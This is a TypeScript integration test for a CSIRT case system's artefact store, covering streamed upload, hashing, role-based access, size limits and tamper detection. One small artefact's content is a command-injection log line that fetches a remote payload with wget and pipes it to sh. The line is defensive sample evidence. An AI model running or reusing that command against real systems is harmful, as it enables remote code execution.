import assert from 'node:assert/strict';
import { createHash, randomBytes } from 'node:crypto';
import { existsSync, readdirSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { join } from 'node:path';
import { test } from 'node:test';
import { signInCookie, signedIn } from '../../test/support/api-client.js';
import { startTestNode, stopTestNode } from '../../test/support/test-node.js';

const MiB = 1024 * 1024;
// A small limit, so the test sends a few MiB past it rather than 256 MiB.
process.env.VIGIL_CSIRT_MAX_ARTEFACT_BYTES = String(12 * MiB);

interface Answer {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: Buffer;
}

/** A real HTTP upload: the body sent in 256 KiB pieces (chunked, or with a Content-Length), the answer read whole. */
function upload(url: string, cookie: string, bytes: Buffer, opts: { contentLength?: number } = {}): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const headers: Record<string, string> = { cookie, 'content-type': 'application/vnd.tcpdump.pcap' };
    if (opts.contentLength !== undefined) headers['content-length'] = String(opts.contentLength);
    const req = request(url, { method: 'POST', headers }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode!, headers: res.headers, body: Buffer.concat(chunks) }));
      res.on('error', reject);
    });
    // The server may answer (413) and close before the whole body went out: the answer is what counts.
    req.on('error', (e) => (answered ? undefined : reject(e)));
    let answered = false;
    req.on('response', () => (answered = true));
    let at = 0;
    const write = (): void => {
      while (at < bytes.length && !answered) {
        const piece = bytes.subarray(at, at + 256 * 1024);
        at += piece.length;
        if (!req.write(piece)) return void req.once('drain', write);
      }
      req.end();
    };
    write();
  });
}

function download(url: string, cookie: string): Promise<Answer> {
  return new Promise((resolve, reject) => {
    request(url, { headers: { cookie } }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode!, headers: res.headers, body: Buffer.concat(chunks) }));
      res.on('error', reject);
    })
      .on('error', reject)
      .end();
  });
}

const sha = (b: Buffer): string => createHash('sha256').update(b).digest('hex');

test('csirt artefacts over HTTP: a multi-MiB capture streamed to disk and back, durable and hashed; the limit answered 413 however the body comes; only the CSIRT and the owner read it', async () => {
  const vigil = await startTestNode('artefacts', { VIGIL_ROUTING_OSM: 'off' });
  try {
    await vigil.demoLoaded;
    const store = join(vigil.ctx.config.dataDir, 'csirt', 'artefacts');
    const analyst = await signedIn(vigil, 'csirt');
    const cookie = (await signInCookie(vigil, 'csirt'))!;
    const opened = await analyst('POST', '/api/csirt/cases', { title: 'Camera recorder beaconing out' });
    assert.equal(opened.status, 201, opened.body);
    const caseId = opened.json.case.caseId as string;
    const at = (name: string) => `${vigil.url}/api/csirt/cases/${caseId}/artefacts?name=${encodeURIComponent(name)}`;

    // 9 MiB of capture, sent chunked (no Content-Length): past the log's 512 KiB, into the store.
    const capture = randomBytes(9 * MiB);
    const sent = await upload(at('recorder-egress.pcap'), cookie, capture);
    assert.equal(sent.status, 201, sent.body.toString().slice(0, 300));
    const artefact = (JSON.parse(sent.body.toString()) as { case: { artefacts: { artefactId: string; name: string; bytes: number; sha256: string }[] } }).case
      .artefacts[0]!;
    assert.equal(artefact.bytes, capture.length);
    assert.equal(artefact.sha256, sha(capture));
    const onDisk = join(store, artefact.sha256.slice(0, 2), artefact.sha256);
    assert.ok(existsSync(onDisk), 'kept by its SHA-256 under the data folder');
    assert.deepEqual(readdirSync(join(store, 'tmp')), [], 'no temporary file left');
    const [event] = await vigil.ctx.log.read({ afterSeq: 0, typePrefixes: ['csirt.case.artefact-added'], limit: 1000 }).then((es) => es.slice(-1));
    assert.equal((event!.data as { base64?: string }).base64, undefined, 'the bytes are not in the log');
    const view = await analyst('GET', `/api/csirt/cases/${caseId}`);
    assert.ok(
      (view.json.case.observables as { type: string; value: string }[]).some((o) => o.type === 'sha256' && o.value === artefact.sha256),
      'the hash joins the case as an observable',
    );

    // Back as a download: whole, the same bytes, never something a browser would render.
    const back = await download(`${vigil.url}/api/csirt/artefacts/${artefact.artefactId}`, cookie);
    assert.equal(back.status, 200);
    assert.equal(back.body.length, capture.length);
    assert.equal(sha(back.body), artefact.sha256);
    assert.equal(back.headers['content-type'], 'application/octet-stream');
    assert.match(String(back.headers['content-disposition']), /^attachment; filename="recorder-egress\.pcap"/);
    assert.equal(back.headers['x-content-type-options'], 'nosniff');
    assert.equal(back.headers['x-content-sha256'], artefact.sha256);

    // The policy on every read: the owner organisation (the city: its admin) reads it; another organisation's supervisor and a commander do not.
    const admin = (await signInCookie(vigil, 'admin'))!;
    assert.equal((await download(`${vigil.url}/api/csirt/artefacts/${artefact.artefactId}`, admin)).status, 200);
    const supervisor = (await signInCookie(vigil, 'supervisor'))!;
    assert.equal((await download(`${vigil.url}/api/csirt/artefacts/${artefact.artefactId}`, supervisor)).status, 404);
    const commander = (await signInCookie(vigil, 'commander'))!;
    assert.equal((await download(`${vigil.url}/api/csirt/artefacts/${artefact.artefactId}`, commander)).status, 403);
    // Nor may they upload: refused before a byte is stored.
    const refused = await upload(at('x.bin'), supervisor, randomBytes(2 * MiB));
    assert.equal(refused.status, 403);

    // The limit (12 MiB here): refused at once when Content-Length says so, and counted while streaming when it does not.
    const tooBig = randomBytes(13 * MiB);
    const declared = await upload(at('memory.raw'), cookie, tooBig, { contentLength: tooBig.length });
    assert.equal(declared.status, 413);
    assert.match(declared.body.toString(), /at most 12582912 bytes/);
    const streamed = await upload(at('memory.raw'), cookie, tooBig);
    assert.equal(streamed.status, 413);
    assert.equal(JSON.parse(streamed.body.toString()).error.code, 'payload_too_large');
    assert.deepEqual(readdirSync(join(store, 'tmp')), [], 'a refused upload leaves no temporary file');
    const after = await analyst('GET', `/api/csirt/cases/${caseId}`);
    assert.equal(after.json.case.artefacts.length, 1, 'nothing recorded of the refused ones');

    // The same capture twice in one case: a conflict; in another case, kept once on disk.
    assert.equal((await upload(at('again.pcap'), cookie, capture)).status, 409);
    const other = (await analyst('POST', '/api/csirt/cases', { title: 'Same capture, other case' })).json.case.caseId as string;
    const shared = await upload(`${vigil.url}/api/csirt/cases/${other}/artefacts?name=copy.pcap`, cookie, capture);
    assert.equal(shared.status, 201);
    assert.deepEqual(readdirSync(join(store, artefact.sha256.slice(0, 2))), [artefact.sha256]);

    // A small file still goes into the log (every node and backup has it) and reads back the same way.
    const note = Buffer.from('GET /cgi-bin/;wget http://198.51.100.7/m -O- | sh\n');
    const small = await upload(at('access.log'), cookie, note);
    assert.equal(small.status, 201);
    const smallId = (JSON.parse(small.body.toString()) as { case: { artefacts: { artefactId: string; name: string }[] } }).case.artefacts.find(
      (a) => a.name === 'access.log',
    )!.artefactId;
    assert.deepEqual((await download(`${vigil.url}/api/csirt/artefacts/${smallId}`, cookie)).body, note);

    // A file changed on disk behind Vigil's back is not served as the artefact.
    writeFileSync(onDisk, randomBytes(capture.length));
    const tampered = await download(`${vigil.url}/api/csirt/artefacts/${artefact.artefactId}`, cookie).catch((e: Error) => e);
    assert.ok(tampered instanceof Error || tampered.body.length < capture.length || tampered.status >= 500, 'a changed file is cut short');
  } finally {
    await stopTestNode(vigil);
  }
});
